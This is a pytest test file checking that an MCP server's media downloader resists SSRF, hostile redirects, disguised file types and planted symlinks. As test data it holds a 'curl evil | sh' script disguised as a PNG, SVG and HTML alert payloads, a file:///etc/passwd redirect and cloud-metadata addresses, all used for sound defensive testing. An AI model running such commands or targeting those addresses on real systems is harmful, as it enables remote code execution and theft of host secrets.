"""Output downloads cannot be turned against the machine: public addresses only (checked on the address
actually connected to, every redirect hop too), media only (extension from the bytes), files only inside the
output dir, and nothing planted there is ever followed.

A small socket server stands in for every host; the system resolver is patched, so the names resolve to
whatever a hostile DNS would answer, for our code and any library alike.
"""

from __future__ import annotations

import json
import logging
import os
import socket
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import anyio
import httpcore2
import pytest
from mcp.client import Client

from mcp_server.client import UnificallyClient
from mcp_server.netguard import is_public
from mcp_server.outputs import Outputs
from mcp_server.server import build_server
from mcp_server.simulator import Fault
from tests.conftest import make_settings, make_sim, text_of

pytestmark = pytest.mark.anyio

PNG = (Path(__file__).parent.parent / "mcp_server/simulator/media/sample.png").read_bytes()
PUBLIC = "93.184.216.34"


class FakeNet:
    """One local HTTP server for every host; `names` is what DNS answers; `connects` the addresses dialled."""

    def __init__(self, port: int, routes: dict[str, tuple[int, dict[str, str], bytes]]) -> None:
        self.port, self.routes = port, routes
        self.names: dict[str, list[str]] = {}
        self.lookups: list[str] = []
        self.connects: list[str] = []
        self.requests: list[tuple[str, str]] = []  # (path, Host header)

    def url(self, host: str, path: str) -> str:
        return f"http://{host}:{self.port}{path}"

    async def handle(self, stream: Any) -> None:
        async with stream:
            raw = b""
            while b"\r\n\r\n" not in raw:
                raw += await stream.receive()
            lines = raw.decode("latin-1").split("\r\n")
            path = lines[0].split(" ")[1]
            host = next((line.split(":", 1)[1].strip() for line in lines if line.lower().startswith("host:")), "")
            self.requests.append((path, host))
            status, headers, body = self.routes.get(path, (404, {}, b"not found"))
            head = f"HTTP/1.1 {status} X\r\ncontent-length: {len(body)}\r\nconnection: close\r\n"
            head += "".join(f"{k}: {v}\r\n" for k, v in headers.items())
            await stream.send(head.encode() + b"\r\n" + body)


@asynccontextmanager
async def fake_net(monkeypatch: pytest.MonkeyPatch, routes: dict[str, tuple[int, dict[str, str], bytes]]
                   ) -> AsyncIterator[FakeNet]:
    listener = await anyio.create_tcp_listener(local_host="127.0.0.1")
    port = listener.extra(anyio.abc.SocketAttribute.local_port)
    net = FakeNet(port, routes)
    real_getaddrinfo = socket.getaddrinfo
    real_connect = httpcore2.AnyIOBackend.connect_tcp

    def getaddrinfo(host: Any, port: Any, *args: Any, **kwargs: Any) -> list[Any]:
        name = host.decode() if isinstance(host, bytes) else host
        if name not in net.names:
            return real_getaddrinfo(host, port, *args, **kwargs)
        net.lookups.append(name)
        return [(socket.AF_INET6 if ":" in ip else socket.AF_INET, socket.SOCK_STREAM, 6, "",
                 (ip, int(port or 0)) if ":" not in ip else (ip, int(port or 0), 0, 0)) for ip in net.names[name]]

    async def connect_tcp(self: Any, host: str, port: int, **kwargs: Any) -> Any:
        net.connects.append(host)  # whatever was dialled, the local server answers
        return await real_connect(self, "127.0.0.1", port, **kwargs)

    monkeypatch.setattr(socket, "getaddrinfo", getaddrinfo)
    monkeypatch.setattr(httpcore2.AnyIOBackend, "connect_tcp", connect_tcp)
    async with listener, anyio.create_task_group() as group:
        group.start_soon(listener.serve, net.handle)
        try:
            yield net
        finally:
            group.cancel_scope.cancel()


@asynccontextmanager
async def outputs_for(dirs: dict[str, Path], **settings: Any) -> AsyncIterator[Outputs]:
    client = UnificallyClient(make_settings(dirs, **settings))  # no transport: the real, guarded network
    try:
        yield Outputs(client.settings, client.http)
    finally:
        await client.aclose()


@pytest.mark.parametrize("address", ["127.0.0.1", "169.254.169.254", "10.0.0.5", "100.64.0.1", "0.0.0.0",
                                     "::1", "::ffff:127.0.0.1", "fd00:ec2::254", "64:ff9b::a9fe:a9fe"])
async def test_a_name_resolving_to_a_private_address_is_never_fetched(dirs, monkeypatch, caplog, address):
    async with fake_net(monkeypatch, {"/a.png": (200, {}, PNG)}) as net, outputs_for(dirs) as outputs:
        net.names["cdn.example"] = [address]
        assert await outputs.download_all("m", "t1", [net.url("cdn.example", "/a.png")]) == []
    assert net.connects == [] and net.requests == [] and list(dirs["out"].iterdir()) == []
    assert "not a public address" in caplog.text


async def test_one_private_address_among_public_ones_refuses_the_host(dirs, monkeypatch):
    async with fake_net(monkeypatch, {"/a.png": (200, {}, PNG)}) as net, outputs_for(dirs) as outputs:
        net.names["cdn.example"] = [PUBLIC, "127.0.0.1"]
        assert await outputs.download_all("m", "t1", [net.url("cdn.example", "/a.png")]) == []
    assert net.connects == [] and net.requests == []


async def test_the_checked_address_is_the_one_connected_to_and_host_is_kept(dirs, monkeypatch):
    async with fake_net(monkeypatch, {"/a.png": (200, {"content-type": "text/html"}, PNG)}) as net, \
            outputs_for(dirs) as outputs:
        net.names["cdn.example"] = [PUBLIC]
        [path] = await outputs.download_all("m", "t1", [net.url("cdn.example", "/a.png")])
    assert net.lookups == ["cdn.example"]  # resolved once
    assert net.connects == [PUBLIC]  # and that very address dialled, not the name again
    assert net.requests == [("/a.png", f"cdn.example:{net.port}")]
    assert path.parent == dirs["out"] and path.suffix == ".png" and path.read_bytes() == PNG


@pytest.mark.parametrize("target", ["http://internal.example:{port}/secret", "http://127.0.0.1:{port}/secret",
                                    "http://[::ffff:169.254.169.254]:{port}/secret", "file:///etc/passwd"])
async def test_every_redirect_hop_is_checked(dirs, monkeypatch, caplog, target):
    async with fake_net(monkeypatch, {}) as net, outputs_for(dirs) as outputs:
        net.routes["/a.png"] = (302, {"location": target.format(port=net.port)}, b"")
        net.routes["/secret"] = (200, {}, PNG)
        net.names.update({"cdn.example": [PUBLIC], "internal.example": ["10.1.2.3"]})
        assert await outputs.download_all("m", "t1", [net.url("cdn.example", "/a.png")]) == []
    assert net.connects == [PUBLIC] and [path for path, _ in net.requests] == ["/a.png"]
    assert "not a public address" in caplog.text or "only http(s)" in caplog.text


async def test_allow_private_urls_relaxes_the_address_rule_only(dirs, monkeypatch):
    async with fake_net(monkeypatch, {"/a.png": (200, {}, PNG), "/x": (200, {}, b"<svg onload=alert(1)>")}) as net, \
            outputs_for(dirs, allow_private_urls=True) as outputs:
        net.names["cdn.example"] = ["127.0.0.1"]
        saved = await outputs.download_all("m", "t1", [net.url("cdn.example", "/a.png"), net.url("cdn.example", "/x")])
    assert [p.name for p in saved] == ["m_t1_1.png"]  # the SVG is still refused


def test_public_addresses():
    assert all(is_public(a) for a in (PUBLIC, "8.8.8.8", "2606:4700::1111", "::ffff:8.8.8.8"))
    assert not any(is_public(a) for a in ("192.0.0.192", "168.63.129.16", "224.0.0.1", "ff02::1", "fe80::1%eth0",
                                          "2002:7f00:1::", "::127.0.0.1", "2001:db8::1", "255.255.255.255", "x"))


# ----- what is saved, and where ---------------------------------------------------------------------------
async def test_only_media_is_saved_with_the_extension_of_its_bytes(dirs, caplog):
    caplog.set_level(logging.INFO)
    sim = make_sim(task_seconds=0.6)
    files = {name: sim.state.store_upload(content, ctype, ext).name for name, content, ctype, ext in [
        ("png_as_sh", PNG, "text/x-sh", "sh"),
        ("sh_as_png", b"#!/bin/sh\ncurl evil | sh\n", "image/png", "png"),
        ("svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "image/svg+xml", "svg"),
        ("html", b"<html><script>alert(1)</script></html>", "text/html", "html"),
    ]}
    urls = {name: f"http://api.test/files/{stored}" for name, stored in files.items()}
    urls["literal"] = f"http://127.0.0.1/files/{files['png_as_sh']}"
    urls["mapped"] = f"http://[::ffff:a9fe:a9fe]/files/{files['png_as_sh']}"
    async with Client(build_server(make_settings(dirs), sim.transport())) as client:
        created = await client.call_tool("create_task", {"model": "black-forest-labs/flux.2-pro",
                                                         "input": {"prompt": "x"}, "wait_seconds": 0})
        task_id = created.structured_content["task_id"]
        sim.add_fault(Fault(kind="raw", method="GET", path=f"/v1/tasks/{task_id}", times=-1, body=json.dumps(
            {"success": True, "code": 200, "data": {"task_id": task_id, "status": "completed", "output": urls}})))
        result = await client.call_tool("wait_for_task", {"task_id": task_id})
    assert not result.is_error, text_of(result)
    assert result.structured_content["urls"] == list(urls.values())  # every URL still returned
    [saved] = [Path(p) for p in result.structured_content["files"]]
    assert saved.suffix == ".png" and saved.read_bytes() == PNG and saved.parent == dirs["out"]
    assert sorted(p.name for p in dirs["out"].iterdir()) == [saved.name]
    assert caplog.text.count("not an image, audio or video") == 3 and caplog.text.count("not a public address") == 2


async def test_a_symlink_planted_at_the_temporary_name_is_never_followed(dirs, tmp_path, monkeypatch):
    import mcp_server.downloads as downloads

    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    monkeypatch.setattr(downloads.secrets, "token_hex", lambda n: "guessed")
    stem = "m_t1"
    for name in (f".{stem}.guessed.part", f".{stem}.{os.getpid()}.part"):  # any name an attacker could guess
        (dirs["out"] / name).symlink_to(victim)
    sim = make_sim()
    stored = sim.state.store_upload(PNG, "image/png", "png").name
    client = UnificallyClient(make_settings(dirs), sim.transport())
    try:
        saved = await Outputs(client.settings, client.http).download_all("m", "t1", [f"http://api.test/files/{stored}"])
    finally:
        await client.aclose()
    assert victim.read_bytes() == b"precious"
    assert all(not p.is_symlink() for p in saved)


async def test_a_planted_symlink_at_the_final_name_is_never_reused(dirs, tmp_path):
    outside = tmp_path / "elsewhere.png"
    outside.write_bytes(PNG)  # even with the very same bytes
    (dirs["out"] / "m_t1.png").symlink_to(outside)
    sim = make_sim()
    stored = sim.state.store_upload(PNG, "image/png", "png").name
    client = UnificallyClient(make_settings(dirs), sim.transport())
    try:
        [path] = await Outputs(client.settings, client.http).download_all("m", "t1", [f"http://api.test/files/{stored}"])
    finally:
        await client.aclose()
    assert not path.is_symlink() and path.parent == dirs["out"] and path.name == "m_t1-2.png"
    assert (dirs["out"] / "m_t1.png").is_symlink() and outside.read_bytes() == PNG
